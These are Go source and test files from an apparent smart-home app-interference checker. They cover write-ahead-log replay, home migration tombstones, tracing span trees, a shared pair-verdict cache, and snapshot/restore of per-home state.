	ctx := context.Background()
	srcDir, dstDir := t.TempDir(), t.TempDir()

	src := New(Options{})
	sl := openWAL(t, srcDir)
	src.AttachWAL(sl)
	driveOps(t, src)

	dst := New(Options{})
	dl := openWAL(t, dstDir)
	dst.AttachWAL(dl)
	if _, err := dst.Install(ctx, "dst-home", mustSource(t, "NightCare"), nil); err != nil {
		t.Fatal(err)
	}

	blob, _, err := src.DetachHome("home-0")
	if err != nil {
		t.Fatalf("DetachHome: %v", err)
	}
	if _, err := dst.ImportHome("home-0", blob); err != nil {
		t.Fatalf("ImportHome: %v", err)
	}
	sl.Close()
	dl.Close()

	// Source recovery: home-0 stays gone.
	src2 := New(Options{})
	srl := openWAL(t, srcDir)
	if err := srl.Replay(0, src2.ReplayWALRecord); err != nil {
		t.Fatalf("source replay: %v", err)
	}
	srl.Close()
	if _, err := src2.Apps("home-0"); !errors.Is(err, ErrUnknownHome) {
		t.Fatalf("source resurrected home-0: %v", err)
	}
	// Its other homes came back.
	if apps, _ := src2.Apps("home-1"); len(apps) == 0 {
		t.Fatal("source lost home-1 in recovery")
	}

	// Target recovery: home-0 is there with the migrated state.
	dst2 := New(Options{})
	drl := openWAL(t, dstDir)
	if err := drl.Replay(0, dst2.ReplayWALRecord); err != nil {
		t.Fatalf("target replay: %v", err)
	}
	drl.Close()
	assertFleetsEqual(t, dst, dst2)
}

// TestMigrationCheckpointTombstone takes the checkpoint AFTER the
// detach: the snapshot must exclude the migrated home, persist its
// tombstone, and a restore + full-log replay must not resurrect it from
// the pre-removal install records still in the log.
func TestMigrationCheckpointTombstone(t *testing.T) {
	dir := t.TempDir()
	src := New(Options{})
	l := openWAL(t, dir)
	src.AttachWAL(l)
	driveOps(t, src)
	if _, _, err := src.DetachHome("home-0"); err != nil {
		t.Fatal(err)
	}

	var ckpt bytes.Buffer
	n, err := src.SnapshotHomes(&ckpt)
	if err != nil {
		t.Fatal(err)
	}
	if n != src.NumHomes() {
		t.Fatalf("snapshot wrote %d homes, fleet serves %d", n, src.NumHomes())
	}
	l.Close()

	g := New(Options{})
	if _, err := g.RestoreHomes(bytes.NewReader(ckpt.Bytes())); err != nil {
		t.Fatalf("restore: %v", err)
	}
	rl := openWAL(t, dir)
	if err := rl.Replay(0, g.ReplayWALRecord); err != nil {
		t.Fatalf("replay: %v", err)
	}
	rl.Close()
	if _, err := g.Apps("home-0"); !errors.Is(err, ErrUnknownHome) {
		t.Fatalf("restored fleet resurrected home-0: %v", err)
	}
	assertFleetsEqual(t, src, g)
}
