package fleet

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/obs"
)

// TestFleetInstallSpanTree is the tracing acceptance test: with tracing
// enabled, one install's captured span tree carries the whole pipeline —
// extract, detect (with per-app compile), pair verdict, and solve.
func TestFleetInstallSpanTree(t *testing.T) {
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	f := New(Options{Obs: o})

	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	// The second install shares channels with the first, so its detect
	// stage compiles the new app, misses the verdict cache, and solves.
	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ColdDefender"), nil); err != nil {
		t.Fatal(err)
	}

	snap := o.Capture.Snapshot()
	if snap.Total != 2 {
		t.Fatalf("capture total = %d, want 2 traced installs", snap.Total)
	}
	// Recent is newest-first: the ColdDefender install leads.
	tree := snap.Recent[0]
	if tree.Name != "install" {
		t.Fatalf("newest capture is %q, want install", tree.Name)
	}
	if tree.Attrs["app"] != "ColdDefender" || tree.Attrs["home"] != "h1" {
		t.Errorf("install span attrs = %v, want app/home", tree.Attrs)
	}
	for _, stage := range []string{"extract", "detect", "compile", "candidates", "verdict", "solve", "chains", "ledger", "report"} {
		if _, ok := tree.Stage(stage); !ok {
			t.Errorf("install span tree missing stage %q:\n%s", stage, dumpTree(tree, 0))
		}
	}
	// Stage nesting: compile and solve live under detect, not the root.
	det, ok := tree.Stage("detect")
	if !ok {
		t.Fatal("no detect stage")
	}
	if _, ok := det.Stage("solve"); !ok {
		t.Error("solve stage is not nested under detect")
	}
	if sol, ok := tree.Stage("solve"); ok && sol.DurationNS <= 0 {
		t.Errorf("solve stage duration = %d, want > 0", sol.DurationNS)
	}
	// The verdict stage records its cache disposition.
	if v, ok := tree.Stage("verdict"); ok && v.Attrs["cache"] != "miss" {
		t.Errorf("first solve of the pair has verdict cache=%q, want miss", v.Attrs["cache"])
	}
}

// TestFleetReconfigureSpanTree pins the reconfigure pipeline stages.
func TestFleetReconfigureSpanTree(t *testing.T) {
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	f := New(Options{Obs: o})
	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ColdDefender"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Reconfigure(context.Background(), "h1", "ColdDefender", nil); err != nil {
		t.Fatal(err)
	}
	tree := o.Capture.Snapshot().Recent[0]
	if tree.Name != "reconfigure" {
		t.Fatalf("newest capture is %q, want reconfigure", tree.Name)
	}
	for _, stage := range []string{"detect", "compile", "splice"} {
		if _, ok := tree.Stage(stage); !ok {
			t.Errorf("reconfigure span tree missing stage %q:\n%s", stage, dumpTree(tree, 0))
		}
	}
}

// TestFleetBatchSpanTree: InstallBatch groups per-item install spans
// under one install_batch root with a prewarm stage.
func TestFleetBatchSpanTree(t *testing.T) {
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	f := New(Options{Obs: o})
	items := []BatchItem{
		{Source: mustSource(t, "ComfortTV")},
		{Source: mustSource(t, "ColdDefender")},
	}
	for _, r := range f.InstallBatch(context.Background(), "h1", items) {
		if r.Err != nil {
			t.Fatal(r.Err)
		}
	}
	tree := o.Capture.Snapshot().Recent[0]
	if tree.Name != "install_batch" {
		t.Fatalf("newest capture is %q, want install_batch", tree.Name)
	}
	if _, ok := tree.Stage("prewarm"); !ok {
		t.Error("batch span tree missing prewarm stage")
	}
	var installs int
	for _, c := range tree.Children {
		if c.Name == "install" {
			installs++
		}
	}
	if installs != 2 {
		t.Errorf("batch root has %d install children, want 2:\n%s", installs, dumpTree(tree, 0))
	}
}

func dumpTree(j obs.SpanJSON, depth int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s%s (%dns) %v\n", strings.Repeat("  ", depth), j.Name, j.DurationNS, j.Attrs)
	for _, c := range j.Children {
		b.WriteString(dumpTree(c, depth+1))
	}
	return b.String()
}

// TestFleetConcurrentScrape is the race-mode exercise from the issue:
// parallel InstallBatch and Reconfigure traffic with tracing enabled
// while other goroutines continuously scrape the Prometheus registry and
// the span capture. Run under -race this proves the collector/tracer
// locking discipline; without -race it still checks exposition validity
// under concurrency.
func TestFleetConcurrentScrape(t *testing.T) {
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	f := New(Options{Obs: o})

	apps := []string{"ComfortTV", "ColdDefender", "MakeItSo", "AutoLockDoor", "EnergySaver"}
	items := make([]BatchItem, 0, len(apps))
	for _, a := range apps {
		items = append(items, BatchItem{Source: mustSource(t, a)})
	}

	const homes = 8
	stop := make(chan struct{})
	var scrapers sync.WaitGroup
	// Scraper 1: the Prometheus registry, validated on every pass.
	scrapers.Add(1)
	go func() {
		defer scrapers.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			var buf bytes.Buffer
			if err := o.Registry.WritePrometheus(&buf); err != nil {
				t.Errorf("WritePrometheus: %v", err)
				return
			}
			if _, err := obs.ParseExposition(&buf); err != nil {
				t.Errorf("concurrent scrape produced malformed exposition: %v", err)
				return
			}
		}
	}()
	// Scraper 2: the capture ring (the /debug/requests backing store).
	scrapers.Add(1)
	go func() {
		defer scrapers.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			snap := o.Capture.Snapshot()
			for _, r := range snap.Recent {
				if r.Name == "" {
					t.Error("captured span with empty name")
					return
				}
			}
		}
	}()

	var traffic sync.WaitGroup
	for h := 0; h < homes; h++ {
		traffic.Add(1)
		go func(h int) {
			defer traffic.Done()
			home := fmt.Sprintf("home-%d", h)
			for i, r := range f.InstallBatch(context.Background(), home, items) {
				if r.Err != nil {
					t.Errorf("%s: install %s: %v", home, apps[i], r.Err)
				}
			}
			for i := 0; i < 3; i++ {
				app := apps[(h+i)%len(apps)]
				if _, err := f.Reconfigure(context.Background(), home, app, nil); err != nil {
					t.Errorf("%s: reconfigure %s: %v", home, app, err)
				}
			}
		}(h)
	}
	traffic.Wait()
	close(stop)
	scrapers.Wait()

	m := f.Metrics()
	if m.Installs != uint64(homes*len(apps)) {
		t.Errorf("installs = %d, want %d", m.Installs, homes*len(apps))
	}
	if total := o.Capture.Snapshot().Total; total < uint64(homes) {
		t.Errorf("capture total = %d, want >= %d batch roots", total, homes)
	}
}

// TestFleetDisabledTracerKeepsMetrics: with no Observer the fleet runs
// exactly as before (nil spans everywhere), and with an Observer but
// tracing disabled the registry still serves metrics while the capture
// stays empty.
func TestFleetDisabledTracerKeepsMetrics(t *testing.T) {
	o := obs.NewObserver()
	f := New(Options{Obs: o}) // tracing disabled by default
	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ColdDefender"), nil); err != nil {
		t.Fatal(err)
	}
	if total := o.Capture.Snapshot().Total; total != 0 {
		t.Errorf("capture total = %d with tracing disabled, want 0", total)
	}
	var buf bytes.Buffer
	if err := o.Registry.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	samples, err := obs.ParseExposition(&buf)
	if err != nil {
		t.Fatalf("exposition: %v", err)
	}
	found := map[string]float64{}
	for _, s := range samples {
		found[s.Name] = s.Value
	}
	if found["homeguard_installs_total"] != 2 {
		t.Errorf("homeguard_installs_total = %v, want 2", found["homeguard_installs_total"])
	}
	if found["homeguard_solver_calls_total"] == 0 {
		t.Error("homeguard_solver_calls_total = 0 after a threat-reporting install")
	}

	// Corpus sanity for the tests above: the two apps really interfere.
	if _, ok := corpus.Get("ComfortTV"); !ok {
		t.Fatal("corpus missing ComfortTV")
	}
}
