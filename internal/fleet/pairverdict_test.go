package fleet

import (
	"context"
	"fmt"
	"sort"
	"sync"
	"testing"

	"homeguard/internal/detect"
	"homeguard/internal/pairverdict"
)

// catalogSources returns the five demo apps every home installs.
func catalogSources(t testing.TB) []string {
	apps := []string{"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare"}
	sources := make([]string, len(apps))
	for i, n := range apps {
		sources[i] = mustSource(t, n)
	}
	return sources
}

func installCatalog(t testing.TB, f *Fleet, homes int) {
	sources := catalogSources(t)
	var wg sync.WaitGroup
	errs := make(chan error, homes)
	for h := 0; h < homes; h++ {
		wg.Add(1)
		go func(h int) {
			defer wg.Done()
			id := fmt.Sprintf("home-%04d", h)
			for _, src := range sources {
				if _, err := f.Install(context.Background(), id, src, nil); err != nil {
					errs <- fmt.Errorf("%s: %w", id, err)
					return
				}
			}
		}(h)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
}

func threatStrings(t testing.TB, f *Fleet, homeID string) []string {
	ts, err := f.Threats(homeID)
	if err != nil {
		t.Fatal(err)
	}
	out := make([]string, len(ts))
	for i, th := range ts {
		out[i] = th.String()
	}
	sort.Strings(out)
	return out
}

// TestFleetSharedCatalogPairVerdicts drives the tentpole claim under the
// race detector: when every home installs the same app catalog, the shared
// pair-verdict cache solves each distinct app pair once fleet-wide, every
// later home is served from cache, and the served verdicts are identical
// to what a cache-less home would compute itself.
func TestFleetSharedCatalogPairVerdicts(t *testing.T) {
	homes := 200
	if testing.Short() {
		homes = 64
	}

	f := New(Options{Shards: 32})
	installCatalog(t, f, homes)

	// Installs within a home are sequential and the catalog order is
	// fixed, so every home issues the same verdict lookups and exactly one
	// home's worth of lookups miss fleet-wide.
	pv := f.Verdicts().Stats()
	if pv.Lookups == 0 {
		t.Fatal("no pair-verdict lookups; the cache is not wired into installs")
	}
	if pv.Misses*uint64(homes) != pv.Lookups {
		t.Errorf("verdict misses = %d over %d lookups in %d homes; want exactly one home's worth of misses",
			pv.Misses, pv.Lookups, homes)
	}
	if homes >= 100 && pv.Hits*100 < pv.Lookups*99 {
		t.Errorf("verdict hit ratio = %.4f over %d homes, want >= 0.99", pv.HitRate(), homes)
	}

	// The contrast fleet runs the same catalog without verdict sharing;
	// its per-home solver cost is constant, so a few homes suffice to
	// project the fleet-wide baseline.
	const baseHomes = 8
	base := New(Options{Shards: 4, DisablePairVerdicts: true})
	installCatalog(t, base, baseHomes)
	if base.Verdicts() != nil {
		t.Fatal("DisablePairVerdicts still built a verdict cache")
	}
	bt := base.Metrics().Detectors
	if bt.PairVerdictHits != 0 || bt.PairVerdictMisses != 0 {
		t.Errorf("cache-less fleet recorded verdict traffic: %+v", bt)
	}
	perHome := bt.SolverCalls / baseHomes
	if perHome == 0 {
		t.Fatal("baseline home ran no solver calls; the contrast is vacuous")
	}
	projected := perHome * uint64(homes)

	ct := f.Metrics().Detectors
	if ct.SolverCalls*5 > projected {
		t.Errorf("solver calls with shared verdicts = %d, cache-less projection = %d; want >= 5x reduction",
			ct.SolverCalls, projected)
	}

	// Soundness of sharing: a home served from cache reports exactly the
	// threats a cache-less home computes for itself.
	want := threatStrings(t, base, "home-0000")
	for _, probe := range []int{0, homes / 2, homes - 1} {
		id := fmt.Sprintf("home-%04d", probe)
		got := threatStrings(t, f, id)
		if len(got) != len(want) {
			t.Fatalf("%s: %d threats via shared verdicts, cache-less home has %d\nshared: %v\nlocal:  %v",
				id, len(got), len(want), got, want)
		}
		for i := range got {
			if got[i] != want[i] {
				t.Errorf("%s threat %d = %q, cache-less home reports %q", id, i, got[i], want[i])
			}
		}
	}
}

// TestFleetVerdictCacheSharedAcrossFleets: a caller-provided verdict cache
// is reused, so two fleets (or a fleet plus batch tooling) solve a shared
// catalog once between them.
func TestFleetVerdictCacheSharedAcrossFleets(t *testing.T) {
	shared := f1VerdictCache(t)
	f2 := New(Options{Verdicts: shared})
	installCatalog(t, f2, 1)
	pv := shared.Stats()
	if pv.Hits == 0 {
		t.Errorf("second fleet missed on every pair of an already-solved catalog: %+v", pv)
	}
	if f2.Verdicts() != shared {
		t.Error("fleet replaced the caller-provided verdict cache")
	}
}

func f1VerdictCache(t *testing.T) *pairverdict.Cache {
	f1 := New(Options{})
	installCatalog(t, f1, 1)
	return f1.Verdicts()
}

// TestDetectorLayerVerdictCacheAdopted: a cache preset in
// Options.Detector.Verdicts is the one homes actually use, so the fleet
// must adopt it for Verdicts() and metrics instead of building an idle
// fresh cache that would report zero traffic.
func TestDetectorLayerVerdictCacheAdopted(t *testing.T) {
	preset := pairverdict.New()
	f := New(Options{Detector: detect.Options{Verdicts: preset}})
	installCatalog(t, f, 2)
	if f.Verdicts() != preset {
		t.Error("fleet did not adopt the detector-layer cache")
	}
	if s := f.Metrics().PairVerdicts; s.Lookups == 0 || s.Hits == 0 {
		t.Errorf("metrics report an idle cache while homes hit the preset one: %+v", s)
	}

	// With both layers set, the detector-level cache is the one homes
	// use, so it must also be the one reported.
	both := New(Options{Verdicts: pairverdict.New(), Detector: detect.Options{Verdicts: preset}})
	if both.Verdicts() != preset {
		t.Error("fleet reports the idle fleet-level cache instead of the detector-level one homes use")
	}
}

// TestDisablePairVerdictsWinsOverSuppliedCache: the ablation flag must
// actually disable sharing even when a cache is (mistakenly) supplied,
// or contrast runs silently measure the cached configuration.
func TestDisablePairVerdictsWinsOverSuppliedCache(t *testing.T) {
	supplied := pairverdict.New()
	f := New(Options{
		Verdicts:            supplied,
		Detector:            detect.Options{Verdicts: supplied},
		DisablePairVerdicts: true,
	})
	installCatalog(t, f, 2)
	if f.Verdicts() != nil {
		t.Error("Verdicts() is non-nil on a DisablePairVerdicts fleet")
	}
	if s := supplied.Stats(); s.Lookups != 0 {
		t.Errorf("supplied cache saw %d lookups despite DisablePairVerdicts", s.Lookups)
	}
	if dt := f.Metrics().Detectors; dt.PairVerdictHits != 0 || dt.PairVerdictMisses != 0 {
		t.Errorf("cache-less fleet recorded verdict traffic: %+v", dt)
	}
}

// TestFleetDetectorTotals: the fleet-wide detector rollup sums per-home
// counters, including the footprint prune.
func TestFleetDetectorTotals(t *testing.T) {
	f := New(Options{})
	installCatalog(t, f, 2)
	dt := f.Metrics().Detectors
	if dt.PairsChecked == 0 || dt.SolverCalls == 0 {
		t.Errorf("detector totals look empty: %+v", dt)
	}
	if dt.PairVerdictMisses == 0 || dt.PairVerdictHits == 0 {
		t.Errorf("two identical homes should record both verdict misses and hits: %+v", dt)
	}
	single := New(Options{Detector: detect.Options{DisablePruning: true}, DisablePairVerdicts: true})
	installCatalog(t, single, 1)
	st := single.Metrics().Detectors
	if st.PairsPruned != 0 {
		t.Errorf("pruning disabled but PairsPruned = %d", st.PairsPruned)
	}
}
