// Persistent home state: SnapshotHomes serializes every home — installed
// apps with their configurations, the append-only threat log, the active
// ledger, accepted threats and the per-home WAL watermark — through the
// shared snapcodec framing; RestoreHomes rebuilds the homes in a fresh
// fleet. Together with the extraction/verdict cache sections and the WAL
// this replaces save-on-shutdown-only persistence: a checkpoint restore
// plus a log replay reproduces the exact acknowledged state.
//
// Extraction results are deduplicated by rule-set pointer identity: homes
// sharing a catalog share *symexec.Result values through the extraction
// cache, so a hot app is serialized once into an app table and homes
// reference it by index. On restore each home gets its own InstalledApp
// (the compiled fields are unsynchronized writes) around the shared
// table entry; the fleet-wide compile cache deduplicates the compilation
// work just as it does for live installs.

package fleet

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/rule"
	"homeguard/internal/snapcodec"
	"homeguard/internal/symexec"
)

// Snapshot format identity for the fleet-homes section.
const (
	homesSnapshotMagic   = "HGFLSNP\x00"
	homesSnapshotVersion = 1
)

type homesMetaJSON struct {
	Apps  int `json:"apps"`  // app-table records following the meta record
	Homes int `json:"homes"` // home records following the app table
	// Tombstones maps removed (migrated-away) home IDs to the LSN of
	// their removal record, so replay after this checkpoint never lets an
	// older install record resurrect a removed home. Absent in snapshots
	// from fleets that never migrated (and in pre-migration snapshots —
	// the field rides format v1 compatibly).
	Tombstones map[string]uint64 `json:"tombstones,omitempty"`
}

type homeAppJSON struct {
	// Table is the app's index into the snapshot's app table.
	Table  int             `json:"t"`
	Config json.RawMessage `json:"config,omitempty"`
}

type ledgerJSON struct {
	A       string          `json:"a"`
	B       string          `json:"b"`
	Threats json.RawMessage `json:"threats"`
}

type homeSnapJSON struct {
	ID       string          `json:"id"`
	WalLSN   uint64          `json:"walLSN,omitempty"`
	Apps     []homeAppJSON   `json:"apps,omitempty"`
	Threats  json.RawMessage `json:"threats,omitempty"`
	Ledger   []ledgerJSON    `json:"ledger,omitempty"`
	Accepted json.RawMessage `json:"accepted,omitempty"`
}

// SnapshotHomes writes every home's durable state to w, returning the
// number of homes written. Each home is serialized under its own lock
// (briefly — one home at a time), so concurrent traffic to other homes
// proceeds; the snapshot is a consistent per-home cut, and the per-home
// WAL watermark lets replay bridge homes captured at different LSNs.
func (f *Fleet) SnapshotHomes(w io.Writer) (int, error) {
	var homes []*home
	for _, s := range f.shards {
		s.mu.RLock()
		for _, h := range s.homes {
			homes = append(homes, h)
		}
		s.mu.RUnlock()
	}
	sort.Slice(homes, func(i, j int) bool { return homes[i].id < homes[j].id })

	tableIdx := map[*rule.RuleSet]int{}
	var table [][]byte
	var homeRecs [][]byte
	for _, h := range homes {
		rec, err := h.snapshotLocked(tableIdx, &table)
		if err != nil {
			return 0, fmt.Errorf("fleet: snapshot home %s: %w", h.id, err)
		}
		if rec == nil {
			continue // detached concurrently: its removal record owns the story
		}
		homeRecs = append(homeRecs, rec)
	}

	sw, err := snapcodec.NewWriter(w, homesSnapshotMagic, homesSnapshotVersion)
	if err != nil {
		return 0, fmt.Errorf("fleet: snapshot: %w", err)
	}
	meta, err := json.Marshal(homesMetaJSON{Apps: len(table), Homes: len(homeRecs), Tombstones: f.tombstoneSnapshot()})
	if err != nil {
		return 0, err
	}
	if err := sw.Record(meta); err != nil {
		return 0, fmt.Errorf("fleet: snapshot: %w", err)
	}
	for _, rec := range table {
		if err := sw.Record(rec); err != nil {
			return 0, fmt.Errorf("fleet: snapshot: %w", err)
		}
	}
	for _, rec := range homeRecs {
		if err := sw.Record(rec); err != nil {
			return 0, fmt.Errorf("fleet: snapshot: %w", err)
		}
	}
	if err := sw.Close(); err != nil {
		return 0, fmt.Errorf("fleet: snapshot: %w", err)
	}
	return len(homeRecs), nil
}

// snapshotLocked serializes one home under its lock, interning each
// app's extraction result into the shared app table. It returns a nil
// record (no error) for a home that was detached after the caller
// collected its pointer — a removed home must not reappear in a
// checkpoint.
func (h *home) snapshotLocked(tableIdx map[*rule.RuleSet]int, table *[][]byte) ([]byte, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return nil, nil
	}
	return h.encodeUnderLock(tableIdx, table, h.walLSN)
}

// encodeUnderLock serializes the home's durable state with the given
// WAL watermark. Callers hold h.mu. Export paths pass watermark 0: the
// importing fleet's log assigns the adopted home a fresh LSN story.
func (h *home) encodeUnderLock(tableIdx map[*rule.RuleSet]int, table *[][]byte, walLSN uint64) ([]byte, error) {
	hs := homeSnapJSON{ID: h.id, WalLSN: walLSN}
	for _, a := range h.det.Apps() {
		idx, ok := tableIdx[a.Rules]
		if !ok {
			// The synthetic Result carries exactly what detection needs:
			// the app metadata and its rules. Warnings and path counts are
			// extraction diagnostics, reported at install time and gone.
			rec, err := extractcache.MarshalResult(&symexec.Result{App: a.Info, Rules: a.Rules})
			if err != nil {
				return nil, fmt.Errorf("app %q: %w", a.Info.Name, err)
			}
			idx = len(*table)
			*table = append(*table, rec)
			tableIdx[a.Rules] = idx
		}
		cb, err := detect.MarshalConfig(a.Config)
		if err != nil {
			return nil, fmt.Errorf("app %q config: %w", a.Info.Name, err)
		}
		hs.Apps = append(hs.Apps, homeAppJSON{Table: idx, Config: cb})
	}
	var err error
	if hs.Threats, err = detect.MarshalThreats(h.threats); err != nil {
		return nil, fmt.Errorf("threat log: %w", err)
	}
	for _, e := range h.ledger {
		tb, err := detect.MarshalThreats(e.threats)
		if err != nil {
			return nil, fmt.Errorf("ledger pair (%s,%s): %w", e.a, e.b, err)
		}
		hs.Ledger = append(hs.Ledger, ledgerJSON{A: e.a, B: e.b, Threats: tb})
	}
	if hs.Accepted, err = detect.MarshalThreats(h.det.Accepted()); err != nil {
		return nil, fmt.Errorf("accepted: %w", err)
	}
	return json.Marshal(hs)
}

// RestoreHomes rebuilds homes from a snapshot written by SnapshotHomes,
// returning the number of homes restored. Apps are re-registered through
// detect.RestoreInstalled — bookkeeping only, no re-detection: the
// threats the original installs produced are restored verbatim, so
// recovery time is deserialization plus compilation (deduplicated
// fleet-wide), not a re-run of every solver call since the beginning of
// time. Restoring into a fleet that already has one of the snapshot's
// homes populated is an error (restore is a boot-time operation).
func (f *Fleet) RestoreHomes(r io.Reader) (int, error) {
	sr, err := snapcodec.NewReader(r, homesSnapshotMagic, homesSnapshotVersion)
	if err != nil {
		return 0, fmt.Errorf("fleet: restore: %w", err)
	}
	rec, err := sr.Next()
	if err != nil {
		return 0, fmt.Errorf("fleet: restore: meta: %w", err)
	}
	var meta homesMetaJSON
	if err := json.Unmarshal(rec, &meta); err != nil {
		return 0, fmt.Errorf("%w: meta: %v", snapcodec.ErrCorrupt, err)
	}
	if len(meta.Tombstones) > 0 {
		f.tombMu.Lock()
		for id, lsn := range meta.Tombstones {
			if lsn > f.tombstones[id] {
				f.tombstones[id] = lsn
			}
		}
		f.tombMu.Unlock()
	}
	table := make([]*symexec.Result, 0, meta.Apps)
	for i := 0; i < meta.Apps; i++ {
		rec, err := sr.Next()
		if err != nil {
			return 0, fmt.Errorf("fleet: restore: app table %d: %w", i, err)
		}
		res, err := extractcache.UnmarshalResult(rec)
		if err != nil {
			return 0, fmt.Errorf("fleet: restore: app table %d: %w", i, err)
		}
		table = append(table, res)
	}
	restored := 0
	for i := 0; i < meta.Homes; i++ {
		rec, err := sr.Next()
		if err != nil {
			return restored, fmt.Errorf("fleet: restore: home %d: %w", i, err)
		}
		var hs homeSnapJSON
		if err := json.Unmarshal(rec, &hs); err != nil {
			return restored, fmt.Errorf("%w: home %d: %v", snapcodec.ErrCorrupt, i, err)
		}
		if err := f.restoreHome(&hs, table); err != nil {
			return restored, err
		}
		restored++
	}
	// Drain the trailer so the checksum verifies and the reader stops at
	// the section boundary (sections concatenate in one file).
	if _, err := sr.Next(); err != io.EOF {
		if err == nil {
			return restored, fmt.Errorf("%w: records beyond the declared counts", snapcodec.ErrCorrupt)
		}
		return restored, fmt.Errorf("fleet: restore: %w", err)
	}
	return restored, nil
}

func (f *Fleet) restoreHome(hs *homeSnapJSON, table []*symexec.Result) error {
	h := f.homeFor(hs.ID)
	h.mu.Lock()
	defer h.mu.Unlock()
	return f.restoreHomeUnderLock(h, hs, table)
}

// restoreHomeUnderLock rebuilds one home's state from its snapshot
// record. Callers hold h.mu and guarantee the home is empty.
func (f *Fleet) restoreHomeUnderLock(h *home, hs *homeSnapJSON, table []*symexec.Result) error {
	if len(h.det.Apps()) > 0 {
		return fmt.Errorf("fleet: restore: home %q is not empty", hs.ID)
	}
	for _, ha := range hs.Apps {
		if ha.Table < 0 || ha.Table >= len(table) {
			return fmt.Errorf("%w: home %q: app table index %d of %d", snapcodec.ErrCorrupt, hs.ID, ha.Table, len(table))
		}
		cfg, err := detect.UnmarshalConfig(ha.Config)
		if err != nil {
			return fmt.Errorf("fleet: restore: home %q: %w", hs.ID, err)
		}
		h.det.RestoreInstalled(detect.NewInstalledApp(table[ha.Table], cfg))
	}
	var err error
	if h.threats, err = detect.UnmarshalThreats(hs.Threats); err != nil {
		return fmt.Errorf("fleet: restore: home %q threat log: %w", hs.ID, err)
	}
	for _, le := range hs.Ledger {
		ts, err := detect.UnmarshalThreats(le.Threats)
		if err != nil {
			return fmt.Errorf("fleet: restore: home %q ledger: %w", hs.ID, err)
		}
		h.ledger = append(h.ledger, ledgerEntry{a: le.A, b: le.B, threats: ts})
	}
	if len(hs.Accepted) > 0 {
		acc, err := detect.UnmarshalThreats(hs.Accepted)
		if err != nil {
			return fmt.Errorf("fleet: restore: home %q accepted: %w", hs.ID, err)
		}
		for _, t := range acc {
			h.det.Accept(t)
		}
	}
	h.walLSN = hs.WalLSN
	h.detSeen = detectorTotalsOf(h.det.Stats())
	return nil
}
