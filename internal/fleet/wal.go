// WAL integration: every fleet mutation — install, reconfigure, accept —
// appends one logical op record inside the home lock, after the mutation
// and before the caller is acknowledged, so a record's presence in the
// log is exactly the operation having happened (commit-log semantics).
// On a WAL append failure the log latches the error and the operation
// returns it un-acknowledged; the in-memory mutation may be ahead of the
// log at that point, but no later operation can append (or be
// checkpointed past), so recovery never resurrects an un-acked op.
//
// Replay applies records back through the same mutation logic minus
// side effects (no events, no report rendering, no re-append): a home's
// persisted walLSN watermark skips records already reflected in the
// checkpoint it was restored from.

package fleet

import (
	"encoding/json"
	"fmt"

	"homeguard/internal/detect"
	"homeguard/internal/wal"
)

// installOp is the payload of an OpFleetInstall record.
type installOp struct {
	Home   string          `json:"home"`
	Source string          `json:"source"`
	Config json.RawMessage `json:"config,omitempty"`
}

// reconfigureOp is the payload of an OpFleetReconfigure record. Config
// is the RESOLVED configuration (a nil request config keeps the app's
// current bindings, and replay must not re-resolve against state that
// has since moved on).
type reconfigureOp struct {
	Home   string          `json:"home"`
	App    string          `json:"app"`
	Config json.RawMessage `json:"config,omitempty"`
}

// acceptOp is the payload of an OpFleetAccept record: threat-log indices
// for AcceptByIndex, marshaled threats for Accept. Exactly one of the
// two is set.
type acceptOp struct {
	Home    string          `json:"home"`
	Indices []int           `json:"indices,omitempty"`
	Threats json.RawMessage `json:"threats,omitempty"`
}

// removeHomeOp is the payload of an OpFleetRemoveHome record (a
// DetachHome — home migrated away).
type removeHomeOp struct {
	Home string `json:"home"`
}

// adoptHomeOp is the payload of an OpFleetAdoptHome record. Snapshot is
// the full single-home export blob: replay must rebuild the home
// without the exporting node existing anymore, so the record carries
// the state, not a reference to it.
type adoptHomeOp struct {
	Home     string `json:"home"`
	Snapshot []byte `json:"snapshot"`
}

// AttachWAL connects the fleet to its write-ahead log. Call it after
// construction and recovery, before serving traffic: replay must run
// with the WAL detached so replayed operations are not re-appended.
func (f *Fleet) AttachWAL(l *wal.Log) { f.wal = l }

// WAL returns the attached log, or nil.
func (f *Fleet) WAL() *wal.Log { return f.wal }

func encodeInstallOp(homeID, src string, cfg *detect.Config) ([]byte, error) {
	cb, err := detect.MarshalConfig(cfg)
	if err != nil {
		return nil, err
	}
	return json.Marshal(installOp{Home: homeID, Source: src, Config: cb})
}

func encodeReconfigureOp(homeID, app string, cfg *detect.Config) ([]byte, error) {
	cb, err := detect.MarshalConfig(cfg)
	if err != nil {
		return nil, err
	}
	return json.Marshal(reconfigureOp{Home: homeID, App: app, Config: cb})
}

func encodeAcceptIndicesOp(homeID string, indices []int) ([]byte, error) {
	return json.Marshal(acceptOp{Home: homeID, Indices: indices})
}

func encodeAcceptThreatsOp(homeID string, ts []detect.Threat) ([]byte, error) {
	tb, err := detect.MarshalThreats(ts)
	if err != nil {
		return nil, err
	}
	return json.Marshal(acceptOp{Home: homeID, Threats: tb})
}

// ReplayWALRecord applies one fleet op record during boot recovery. A
// record at or below the target home's persisted watermark is already
// reflected in the restored checkpoint and is skipped. The WAL must not
